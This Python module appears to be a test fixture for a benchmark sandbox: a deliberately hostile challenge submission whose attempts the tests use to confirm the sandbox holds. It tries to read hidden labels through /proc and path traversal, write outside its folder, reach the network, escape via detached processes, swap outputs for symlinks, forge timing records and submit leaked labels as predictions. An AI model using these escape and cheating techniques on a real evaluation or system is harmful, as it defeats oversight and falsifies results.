"""A hostile challenge submission, steered by its model folder's `fold_<k>.json`.

It predicts like `challenge_honest` (lesion below a HU threshold) unless it manages to read a
label, in which case it hands the label in as its prediction. Every attempt logs one line to
stderr, `SPY <what>: READ ...` or `SPY <what>: blocked (...)`, which the challenge record
keeps; the tests check the effects themselves as well (masks, files, sockets, processes).

Config keys: `hu`; `spy` (try to read and write everything it can at start-up); `dataset` and
`outside` (absolute paths it "knows"); `port` (a TCP server of the test on 127.0.0.1);
`escape_marker` (start a detached `sleep` that should not outlive the run); per case:
`hang_on`, `exit_on`, `bad_shape_on`, `allocate_gb_on` (case -> GB), `symlink_labels`.
Attacks on the harness itself: `swap_output_at_exit` (the output folder becomes a symlink to
the labels as the process ends), `swap_output_on` (the same, before a case), `relink_on`
(case -> a victim file: `spec.json` and `input` become links to it, then the process dies),
`forge_timing_s` (each case sleeps this long, and the child's own events are rewritten so
that every case and the start-up look instant); `helpers_gb_on` (case -> sizes in GB: one
helper process each, which fills that much memory, all at once).
"""

from __future__ import annotations

import atexit
import gc
import glob
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import torch

from bench.adapter import FoldCases, MethodAdapter, Predictor
from bench.io import read_image

LEAKED: list[str] = []


def say(text: str) -> None:
    print(f"SPY {text}", file=sys.stderr, flush=True)


def try_read(what: str, path: str | Path) -> bytes | None:
    try:
        data = (
            Path(path).read_bytes() if not Path(path).is_dir() else str(os.listdir(path)).encode()
        )
    except OSError as error:
        say(f"{what}: blocked ({type(error).__name__})")
        return None
    say(f"{what}: READ {len(data)} bytes from {path}")
    LEAKED.append(what)
    return data


def try_write(what: str, path: str | Path) -> None:
    try:
        Path(path).write_text("pwned")
    except OSError as error:
        say(f"{what}: blocked ({type(error).__name__})")
        return
    say(f"{what}: WROTE {path}")


def spy(config: dict, case: str) -> None:
    """Everything a submission might try, once, at start-up."""
    dataset = config["dataset"]
    say(f"env-names: {','.join(sorted(os.environ))}")
    for name, value in os.environ.items():
        if "/" in value and os.path.exists(value):
            for target in (value, os.path.join(value, "dataset.json")):
                if os.path.isfile(target) and "dataset.json" in target:
                    try_read(f"environment {name}", target)
    for depth in range(8):
        up = "../" * depth
        for relative in (f"{up}dataset.json", f"{up}labels/A/{case}.nii.gz", f"{up}tiny"):
            if os.path.exists(relative):
                try_read(f"relative {relative}", relative)
    say("relative: walked up 8 levels")
    # The known absolute path turned into relative ones, from the sandbox and through `..`.
    try_read("relative known", os.path.join(os.path.relpath(dataset), "dataset.json"))
    try_read("dotdot", os.path.join("input", os.path.relpath(dataset, "input"), "dataset.json"))
    try_read("absolute manifest", f"{dataset}/dataset.json")
    try_read("absolute label", f"{dataset}/labels/A/{case}.nii.gz")
    try_read("absolute listing", dataset)
    found = glob.glob(f"/proc/*/root{dataset}/dataset.json") + glob.glob(f"/proc/*/cwd/../{case}")
    say(f"proc: {len(found)} path(s) via /proc/*/root and /proc/*/cwd")
    for path in found[:3]:
        try_read("proc", path)
    environs = glob.glob("/proc/*/environ")
    for environ in environs:
        try:
            data = Path(environ).read_bytes()
        except OSError:
            continue
        if dataset.encode() in data:
            say(f"proc-environ: READ the dataset path from {environ}")
            LEAKED.append(environ)
    say(f"proc-environ: searched {len(environs)} file(s)")
    result = subprocess.run(["umount", "-l", dataset], capture_output=True, text=True)
    say(f"umount: exit {result.returncode}")
    try_read("absolute after umount", f"{dataset}/labels/A/{case}.nii.gz")
    try_write("write parent", "../escape.txt")
    try_write("write outside", f"{config['outside']}/pwned.txt")
    try_write("write label", f"{dataset}/labels/A/{case}.nii.gz")
    try_write("write tmp", "/tmp/bench-spy-pwned.txt")
    try:
        with socket.create_connection(("127.0.0.1", int(config["port"])), timeout=2) as connection:
            connection.sendall(b"labels")
        say("network: CONNECTED to the test's server")
    except OSError as error:
        say(f"network: blocked ({type(error).__name__})")
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53))
        say("internet: SENT a datagram")
    except OSError as error:
        say(f"internet: blocked ({type(error).__name__})")


def escape(marker: str) -> None:
    """A detached process in its own session: it should die with the sandbox."""
    subprocess.Popen(["sleep", marker], start_new_session=True, stdout=subprocess.DEVNULL)
    say(f"escape: started sleep {marker}")


def swap_output(config: dict, aside: str) -> None:
    """Move the output folder aside and put a symlink to the labels in its place."""
    mounts = Path("/proc/self/mountinfo").read_text()
    say(f"mountinfo names bench-hidden: {'bench-hidden' in mounts}")
    os.rename("output", aside)
    os.symlink(f"{config['dataset']}/labels/A", "output")
    say(f"swap: output -> {config['dataset']}/labels/A")


def relink(victim: str) -> None:
    """Links where the harness used to write (`spec.json`) and read (`input`), then die."""
    for name in ("spec.json",):
        if os.path.lexists(name):
            os.unlink(name)
        os.symlink(victim, name)
    os.rename("input", "input_aside")
    os.symlink(os.path.dirname(victim), "input")
    say(f"relink: spec.json and input -> {victim}")
    os._exit(7)


def helpers(sizes_gb: list[float]) -> None:
    """Processes that each fill memory under the per-process limit, together more."""
    code = "import time; x = b'1' * int({} * 2**30); time.sleep(3)"
    running = [subprocess.Popen([sys.executable, "-c", code.format(gb)]) for gb in sizes_gb]
    say(f"helpers: exit codes {[p.wait() for p in running]}")


def forge_timing() -> None:
    """Rewrite the child's events: start-up and every case look instant."""
    # The child runs as `__main__`: look for its Events object by its type's name.
    (events,) = [o for o in gc.get_objects() if type(o).__name__ == "Events"]
    emit = events.emit

    def forged(event: str, **fields) -> None:
        if event == "ready":
            emit(event, load_s=0.0)
        elif event == "case_done":
            emit("case_start", case=fields["case"])
            emit(event, **fields)
        elif event != "case_start":
            emit(event, **fields)

    events.emit = forged
    say("forge: events rewritten")


def label_of(config: dict, case: str):
    """The label, if any route to it works (then the spy cheats with it)."""
    for path in (
        f"{config.get('dataset')}/labels/A/{case}.nii.gz",
        f"../labels/A/{case}.nii.gz",
        f"input/../../labels/A/{case}.nii.gz",
    ):
        if os.path.isfile(path):
            LEAKED.append(f"label {path}")
            return read_image(path)[0]
    return None


class ThresholdNet(torch.nn.Module):
    def __init__(self, hu: float, config: dict):
        super().__init__()
        self.hu, self.config = hu, config
        self.case = ""

    def forward(self, batch):
        if self.case in self.config.get("hang_on", []):
            say(f"hang: {self.case}")
            time.sleep(3600)
        below = self.hu - batch[:, :1]
        return torch.cat([-below, below], dim=1)


class Method(MethodAdapter):
    description = "challenge test: a hostile submission"
    input_channels = ("image",)

    def fit(self, train_cases: FoldCases, fold: int, workdir: Path, profile) -> Predictor:
        raise NotImplementedError("the tests write the model folder themselves")

    def load(self, workdir: Path, fold: int, profile) -> Predictor:
        config = json.loads((Path(workdir) / f"fold_{fold}.json").read_text())
        if config.get("load_sleep_s"):
            time.sleep(float(config["load_sleep_s"]))
        if config.get("spy"):  # no image is there before its case: guess the first case id
            spy(config, "p001")
        if config.get("escape_marker"):
            escape(config["escape_marker"])
        if config.get("swap_output_at_exit"):
            atexit.register(swap_output, config, "output_at_exit")
        if config.get("forge_timing_s"):
            forge_timing()
        network = ThresholdNet(float(config["hu"]), config)
        previous: list[str] = []

        def preprocess(files):
            case = Path(files[0]).name[: -len(".nii.gz")]
            network.case = case
            if config.get("symlink_labels") and len(previous) == 1:  # the first case only
                output = Path("output") / f"{previous[-1]}.nii.gz"
                output.unlink()
                output.symlink_to(f"{config['dataset']}/labels/A/{previous[-1]}.nii.gz")
                say(f"symlink: output/{previous[-1]}.nii.gz -> its label")
            previous.append(case)
            if case in config.get("swap_output_on", []):
                swap_output(config, "output_before_case")
            if case in config.get("relink_on", {}):
                relink(config["relink_on"][case])
            if config.get("forge_timing_s"):
                time.sleep(float(config["forge_timing_s"]))
            if case in config.get("helpers_gb_on", {}):
                helpers(config["helpers_gb_on"][case])
            if case in config.get("exit_on", []):
                say(f"exit: {case}")
                os._exit(7)
            gigabytes = config.get("allocate_gb_on", {}).get(case)
            if gigabytes:
                say(f"allocate: {gigabytes} GB for {case}")
                np.empty(int(gigabytes * 2**30), np.uint8)
            image = read_image(files[0])[0].astype(np.float32)
            return image[None], (case, label_of(config, case))

        def invert(probabilities, info):
            case, label = info
            if case in config.get("bad_shape_on", []):
                return probabilities[:, :-1]
            if label is not None:
                return np.stack([1.0 - label, label]).astype(np.float32)
            return probabilities

        say(f"leaked so far: {LEAKED}")
        return Predictor(
            network=network,
            patch_size=(4, 8, 8),
            num_classes=2,
            mirror_axes=(0, 1, 2),
            preprocess=preprocess,
            invert=invert,
            input_channels=self.input_channels,
        )
